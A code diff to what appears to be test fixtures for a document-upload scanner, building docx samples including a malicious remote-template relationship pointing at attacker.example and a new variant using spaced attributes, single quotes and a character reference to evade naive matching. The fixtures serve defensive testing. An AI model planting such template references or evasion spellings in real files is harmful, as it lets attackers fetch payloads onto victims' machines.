@@ -162,15 +162,14 @@ export const documents = {
   zipOfOther: () => zip([{ name: '[Content_Types].xml', content: '' }, 'xl/workbook.xml']),
   /** A document whose settings attach a template from another server (fetched when it is opened). */
   docxRemoteTemplate: () =>
-    zip([
-      { name: '[Content_Types].xml', content: WORD_CONTENT_TYPES },
-      { name: 'word/document.xml', content: '<w:document/>' },
-      {
-        name: 'word/_rels/settings.xml.rels',
-        content:
-          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/></Relationships>',
-      },
-    ]),
+    docxWithSettingsRelationship(
+      '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>',
+    ),
+  /** The same, written as XML allows: spaces around `=`, single quotes, a character reference. */
+  docxRemoteTemplateSpaced: () =>
+    docxWithSettingsRelationship(
+      `<Relationship Id="rId1" Type = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate' Target="https://attacker.example/t.dotm" TargetMode = '&#69;xternal'/>`,
+    ),
   /** A document with an external hyperlink (a LinkedIn profile): an ordinary resume. */
   docxWithHyperlink: () =>
     zip([
@@ -189,6 +188,17 @@ export const documents = {
       { name: 'word/document.xml', inflatesTo: 101 * 1024 * 1024 },
     ]),
 };
+
+function docxWithSettingsRelationship(relationship: string): Buffer {
+  return zip([
+    { name: '[Content_Types].xml', content: WORD_CONTENT_TYPES },
+    { name: 'word/document.xml', content: '<w:document/>' },
+    {
+      name: 'word/_rels/settings.xml.rels',
+      content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`,
+    },
+  ]);
+}
 
 const FREE = 0xffffffff;
 const END_OF_CHAIN = 0xfffffffe;
